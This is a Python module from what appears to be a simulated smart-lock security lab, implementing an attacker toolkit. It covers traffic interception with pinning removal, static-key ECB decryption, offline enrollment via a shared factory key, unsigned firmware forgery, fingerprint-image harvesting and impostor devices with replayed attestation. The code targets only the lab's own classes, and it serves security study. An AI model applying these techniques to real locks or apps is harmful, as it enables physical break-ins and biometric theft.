"""The attacker's toolkit.

Everything here works from what an attacker can observe or hold: radio
frames, API envelopes passing a proxy, broadcast records, the factory key
shipped in every unit, and devices physically in hand. No function reaches
into lock or cloud internals.
"""

from __future__ import annotations

import json
import random
import struct
import threading
from collections import defaultdict
from dataclasses import dataclass, field, replace
from typing import Callable, Iterator, Optional, TypeVar

from locklab import cryptobox
from locklab.app import App, AppBinaryModel, Endpoint
from locklab.cloud import ERROR_ROUTE, ApiEnvelope, load_config, load_image
from locklab.cryptobox import SigningKeyPair, SymmetricKey
from locklab.errors import AttackError, CloudError, CryptoError, ErrorCode, LockLabError
from locklab.firmware import Behavior, FirmwarePackage, InstalledFirmware, PackageFormat, build_package
from locklab.link import LockClient, SecureSession, open_session
from locklab.lock import (
    RECORD_IMAGE,
    AttestationIdentity,
    BroadcastChannel,
    DebugDump,
    DeviceIdentity,
    Lock,
    TrustAnchors,
)
from locklab.profile import VULNERABLE
from locklab.sensor import FingerprintImage

T = TypeVar("T")

DROPLOCK_VERSION = "6.6.6"


@dataclass
class CapturedTraffic:
    """Append-only record of (direction, envelope) pairs."""

    _items: list[tuple[str, ApiEnvelope]] = field(default_factory=list)

    def append(self, direction: str, envelope: ApiEnvelope) -> None:
        self._items.append((direction, envelope))

    def __iter__(self) -> Iterator[tuple[str, ApiEnvelope]]:
        return iter(list(self._items))

    def __len__(self) -> int:
        return len(self._items)

    def requests(self) -> list[ApiEnvelope]:
        return [env for d, env in self._items if d == "request"]


class Proxy:
    """Sits between an app and the cloud and copies every envelope.

    ``intercepting`` is what a pinned app detects (the proxy's certificate).
    A passive tap, standing in for an observer that already sees inside
    TLS, leaves it False.
    """

    def __init__(self, upstream: Endpoint, *, intercepting: bool = True):
        self.upstream = upstream
        self.intercepting = intercepting
        self.traffic = CapturedTraffic()
        self._mutex = threading.Lock()

    def exchange(self, data: bytes) -> bytes:
        with self._mutex:
            self.traffic.append("request", ApiEnvelope.from_bytes(data))
        reply = self.upstream.exchange(data)
        with self._mutex:
            self.traffic.append("response", ApiEnvelope.from_bytes(reply))
        return reply


def patch_app_pinning(binary: AppBinaryModel) -> AppBinaryModel:
    if not binary.pinning_enforced:
        return binary
    return binary.repack_without_pinning()


def intercept_api(app: App, flow: Callable[[App], T], *, intercepting: bool = True) -> CapturedTraffic:
    """Run ``flow`` with the app's traffic routed through a proxy.

    Raises PINNING_BLOCKED (with an empty capture) if the app refuses the
    proxy; any other flow error propagates after the capture is kept.
    """
    proxy = Proxy(app.endpoint, intercepting=intercepting)
    original, app.endpoint = app.endpoint, proxy
    try:
        flow(app)
    except CloudError as exc:
        if exc.code is ErrorCode.PINNING_BLOCKED:
            err = AttackError(ErrorCode.PINNING_BLOCKED, "app rejected the proxy certificate", phase="intercept_api")
            err.traffic = proxy.traffic  # type: ignore[attr-defined]
            raise err from None
        raise
    finally:
        app.endpoint = original
    return proxy.traffic


def extract_static_key(binary: AppBinaryModel) -> SymmetricKey:
    return binary.embedded_static_key


@dataclass(frozen=True)
class Transcript:
    direction: str
    route: str
    plaintext: bytes

    def json(self) -> dict:
        return json.loads(self.plaintext)


@dataclass(frozen=True)
class DecryptedCapture:
    transcripts: list[Transcript]
    # ciphertext block (hex) -> [(envelope index, block index)], only repeats
    repetitions: dict[str, list[tuple[int, int]]]


def repetition_report(traffic: CapturedTraffic) -> dict[str, list[tuple[int, int]]]:
    seen: dict[bytes, list[tuple[int, int]]] = defaultdict(list)
    for i, (_d, env) in enumerate(traffic):
        for b in range(len(env.body) // 16):
            seen[env.body[16 * b : 16 * b + 16]].append((i, b))
    return {blk.hex(): pos for blk, pos in seen.items() if len(pos) > 1}


def decrypt_captured(traffic: CapturedTraffic, key: SymmetricKey) -> DecryptedCapture:
    out = []
    for direction, env in traffic:
        if env.path == ERROR_ROUTE:
            out.append(Transcript(direction, env.path, env.body))
            continue
        try:
            plain = cryptobox.ecb_decrypt(key, env.body)
            json.loads(plain)
        except (CryptoError, ValueError):
            raise AttackError(
                ErrorCode.DECRYPT_FAILED, f"{env.path} does not open under the static key", phase="decrypt_captured"
            ) from None
        out.append(Transcript(direction, env.path, plain))
    return DecryptedCapture(out, repetition_report(traffic))


def identities_from(capture: DecryptedCapture) -> list[DeviceIdentity]:
    """Serial/key pairs visible in decrypted /register requests."""
    found = []
    for t in capture.transcripts:
        if t.route == "/register" and t.direction == "request":
            body = t.json()
            found.append(DeviceIdentity(bytes.fromhex(body["serial"]), SymmetricKey(bytes.fromhex(body["key"]))))
    return found


def forge_dfu(
    image: bytes,
    behavior: Behavior | str = Behavior.DROPLOCK,
    *,
    version: str = DROPLOCK_VERSION,
    fmt: PackageFormat | str = PackageFormat.MODERN,
) -> FirmwarePackage:
    """A package with a freshly computed CRC16 and no signature."""
    return build_package(image, version=version, behavior=behavior, fmt=fmt)


def droplock_image() -> bytes:
    return load_image("droplock-6.6.6.img")


def parse_image_record(record: bytes) -> Optional[FingerprintImage]:
    if len(record) < 5 or record[0] != RECORD_IMAGE:
        return None
    _kind, width, height = struct.unpack_from("<BHH", record)
    try:
        return FingerprintImage(record[5:], width, height)
    except ValueError:
        return None


class Harvester:
    """Listens to the broadcast channel; remembers how far it has read."""

    def __init__(self, channel: BroadcastChannel):
        self.channel = channel
        self.offset = 0

    def listen(self) -> list[FingerprintImage]:
        records, self.offset = self.channel.read(self.offset)
        return [img for img in map(parse_image_record, records) if img is not None]


def harvest_listen(channel: BroadcastChannel, offset: int = 0) -> list[FingerprintImage]:
    return [img for img in map(parse_image_record, channel.read(offset)[0]) if img is not None]


def physical_dump(lock: Lock) -> DebugDump:
    """Open the case and probe the debug pads of a device in hand."""
    try:
        return lock.debug_dump()
    except LockLabError as exc:
        raise AttackError(exc.code, exc.detail, phase="physical_dump") from None


@dataclass
class DeploymentLog:
    identity: DeviceIdentity
    package: FirmwarePackage
    steps: list[str] = field(default_factory=list)


class Attacker:
    def __init__(self, rng: random.Random):
        self._rng = rng
        self.factory_key = SymmetricKey(bytes.fromhex(load_config()["factory_key"]))

    def choose_identity(self) -> DeviceIdentity:
        return DeviceIdentity(self._rng.randbytes(8), SymmetricKey.random(self._rng))

    def offline_enroll(self, client: LockClient, identity: Optional[DeviceIdentity] = None) -> DeviceIdentity:
        identity = identity or self.choose_identity()
        challenge = client.get_random()
        if challenge.enrolled:
            raise AttackError(ErrorCode.WRONG_STATE, "lock already enrolled", phase="offline_enroll")
        key = cryptobox.derive_session_key(self.factory_key, challenge.hardware_id, challenge.nonce)
        open_session(client, challenge, key).enroll(identity.serial, identity.key)
        return identity

    def offline_session(self, client: LockClient, identity: DeviceIdentity) -> SecureSession:
        challenge = client.get_random()
        key = cryptobox.derive_session_key(identity.key, identity.serial, challenge.nonce)
        return open_session(client, challenge, key)

    def enter_dfu(self, session: SecureSession) -> None:
        session.enter_dfu()

    def dfu_receive(self, client: LockClient, package: FirmwarePackage) -> None:
        client.send_package(package)

    def deploy_droplock(
        self, client: LockClient, *, fmt: PackageFormat | str = PackageFormat.MODERN
    ) -> DeploymentLog:
        identity = self.offline_enroll(client)
        log = DeploymentLog(identity, forge_dfu(droplock_image(), fmt=fmt), ["offline_enroll"])
        session = self.offline_session(client, identity)
        log.steps.append("offline_session")
        self.enter_dfu(session)
        log.steps.append("enter_dfu")
        self.dfu_receive(client, log.package)
        log.steps.append("dfu_receive")
        return log


# -- impostor devices -------------------------------------------------------

IMPOSTOR_KINDS = ("none", "self_signed", "replay")


class ReplayingLock(Lock):
    """Answers every attestation challenge with one recorded genuine reply."""

    recorded: bytes = b""

    def attestation_response(self, challenge: bytes) -> bytes:
        return self.recorded


def build_impostor(
    kind: str,
    *,
    broadcast: BroadcastChannel,
    rng: random.Random,
    recorded_attestation: bytes = b"",
) -> Lock:
    """A self-made droplock built to look like the real product.

    It runs droplock firmware on a class 1 sensor that wakes on touch.
    ``none`` offers no attestation, ``self_signed`` signs with the
    attacker's own CA, ``replay`` repeats a reply recorded from a genuine
    unit.
    """
    if kind not in IMPOSTOR_KINDS:
        raise ValueError(f"unknown impostor kind {kind!r}")
    hwid = rng.randbytes(8)
    attestation = None
    if kind != "none":
        ca = SigningKeyPair.generate(rng)
        device = SigningKeyPair.generate(rng)
        attestation = AttestationIdentity(device, cryptobox.sign(ca.signing_key, hwid + device.verification_key))
    cls = ReplayingLock if kind == "replay" else Lock
    lock = cls(
        hardware_id=hwid,
        profile=replace(VULNERABLE, attestation=kind != "none"),
        factory_key=SymmetricKey(bytes.fromhex(load_config()["factory_key"])),
        firmware=InstalledFirmware(DROPLOCK_VERSION, Behavior.DROPLOCK, droplock_image()),
        trust=TrustAnchors(None, None),
        broadcast=broadcast,
        rng=random.Random(rng.getrandbits(64)),
        attestation=attestation,
    )
    if isinstance(lock, ReplayingLock):
        lock.recorded = recorded_attestation
    return lock
